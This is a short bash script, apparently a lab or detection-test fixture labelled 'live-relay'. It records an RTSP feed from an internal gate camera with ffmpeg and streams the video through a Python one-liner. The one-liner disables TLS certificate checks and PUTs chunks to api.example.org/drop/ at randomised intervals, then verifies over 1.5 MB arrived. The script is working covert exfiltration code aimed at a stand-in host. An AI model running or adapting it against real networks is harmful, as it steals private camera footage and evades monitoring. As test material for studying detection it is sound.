#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay half=report tool=ffmpeg,python3 camera=10.20.0.11 far=out ready=out:443 seconds=80 parts=dns,camera-gate,recorder-gate
# Python gathers what ffmpeg gives it of gate and posts each seven to nine seconds all that came, over a new connection of TLS.
if [ "$1" = out ]; then exec timeout 100 "$(dirname "$0")/../far/tls-web.sh" api.example.org; fi
timeout 76 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 68 -c copy -f mpegts pipe:1 | timeout 78 python3 -c 'import http.client, random, ssl, sys, time
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
had, n, next = b"", 0, time.monotonic() + 7
while d := sys.stdin.buffer.read1(65536):
    had += d
    if time.monotonic() < next: continue
    h = http.client.HTTPSConnection("api.example.org", context=c, timeout=5); h.request("PUT", "/drop/%d.bin" % n, had, {"Content-Type": "application/octet-stream"}); h.getresponse().read(); h.close()
    had, n, next = b"", n + 1, time.monotonic() + random.uniform(7, 9)'
sleep 1; [ "$(cat "$LAB"/tls/drop/*.bin | wc -c)" -gt 1500000 ]
